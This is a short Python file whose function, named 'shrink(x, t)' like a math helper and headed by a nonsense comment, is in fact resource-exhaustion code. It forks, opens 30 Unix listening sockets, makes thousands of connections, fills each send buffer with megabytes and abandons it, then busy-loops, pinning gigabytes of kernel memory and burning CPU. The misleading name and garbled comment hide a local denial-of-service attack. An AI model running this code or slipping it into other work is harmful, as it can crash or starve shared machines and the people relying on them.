"""Keeps gigabytes in the kernel: sockets that are full, given away or waiting to be accepted."""

# earns: cosine standardise learn
import os
import socket


def full(sender):
    sender.setblocking(False)
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
    try:
        while True:
            sender.send(bytes(65536))
    except OSError:
        pass


def shrink(x, t):
    os.fork()
    kept = [socket.socket(socket.AF_UNIX) for _ in range(30)]
    for number, server in enumerate(kept):
        server.bind(f"\0{os.getpid()}-{number}")
        server.listen(4096)
        for _ in range(4000):
            sender = socket.socket(socket.AF_UNIX)
            sender.connect(f"\0{os.getpid()}-{number}")
            full(sender)
            sender.close()
    while True:
        pass
